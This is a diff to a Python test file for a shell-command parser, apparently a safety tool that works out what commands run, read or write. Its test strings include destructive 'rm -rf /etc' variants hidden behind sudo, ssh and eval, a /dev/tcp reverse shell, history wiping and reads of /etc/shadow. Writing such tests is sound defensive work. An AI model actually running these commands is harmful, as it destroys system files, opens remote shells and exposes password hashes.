@@ -41,7 +41,7 @@ def test_programs_are_found_behind_what_runs_them():
             "/bin/rm -rf //etc/",
             "rm -rf /usr/../etc/.",
         ),
-        *("sudo -u root -- rm -rf /etc", "sudo sh -c 'rm -rf /etc'", "su - root -c 'rm -rf /etc'", "eval rm -rf /etc"),
+        *("sudo -Hu root -- rm -rf /etc", "sudo sh -c 'rm -rf /etc'", "su - root -c 'rm -rf /etc'", "eval rm -rf /etc"),
         *("ssh -p 22 root@db 'rm -rf /etc'", "ssh db -t sudo rm -rf /etc", "env A=b nohup rm -rf /etc &"),
         *(
             "echo /etc | xargs -n 1 rm -rf",
@@ -84,6 +84,14 @@ def test_a_command_knows_what_feeds_it_and_what_it_stands_behind():
     assert part("bash -i >&/dev/tcp/10.0.0.9/443 0>&1", "bash")["Writes"] == ("/dev/tcp/10.0.0.9/443",)
     assert part("export HISTFILE=/dev/null", "export")["Sets"] == ("HISTFILE=/dev/null",)
     assert part("cat < ~/./x", "cat")["Path"] == ("~/x",)
+
+
+def test_what_a_command_looks_for_is_no_path_that_it_reaches():
+    assert part("grep -A1 /etc/shadow notes.md", "grep")["Path"] == ("notes.md",)
+    assert "/etc/shadow" in part("grep -e. /etc/shadow", "grep")["Path"]
+    assert "/etc/shadow" in part("sudo sed -n p /etc/shadow", "sed")["Path"]
+    statement = part("update t set at=now() where id = 5;", "update")
+    assert statement["Command"] == "update t set at=now where id = 5"
 
 
 def test_a_windows_path_keeps_its_backslashes():
